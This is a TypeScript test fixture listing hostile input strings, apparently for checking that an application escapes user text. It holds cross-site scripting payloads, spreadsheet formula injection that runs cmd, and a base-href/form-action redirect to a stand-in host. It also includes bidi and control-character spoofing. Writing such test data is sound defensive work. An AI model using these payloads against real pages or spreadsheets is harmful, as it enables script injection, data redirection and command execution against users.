/** The name of what a script would leave behind if it ran. */
export const trace = "hostileScriptRan";

const act = `window.${trace}=true`;

/** Markup and addresses that act where a page takes text for more than text; none of them is longer than a field allows. */
export const hostileTexts = [
  `<script>${act}</script>`,
  `<img src=x onerror="${act}">`,
  `"><svg onload=${act}>`,
  `' autofocus onfocus=${act} x='`,
  `<iframe srcdoc="<script>parent.${trace}=true</script>">`,
  `<a href="javascript:${act}">here</a>`,
  `</title></textarea></style><script>${act}</script>`,
  "<style>*{display:none}</style>",
  `<base href="https://elsewhere.example/"><form action=//elsewhere.example>`,
  `javascript:${act}`,
  `java\nscript:${act}`,
  `JaVaScRiPt:${act}//.com`,
  `data:text/html,<script>${act}</script>`,
  `vbscript:${act}`,
  `https://user:password@elsewhere.example/`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  '=HYPERLINK("https://elsewhere.example","open")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\u202Emoc.elpmaxe.erehwesle\u202C",
  "\u2066a\u2069\u200B\u0007\u001B[31m",
  "%3Cscript%3E&lt;script&gt;&#60;script&#62;",
] as const;
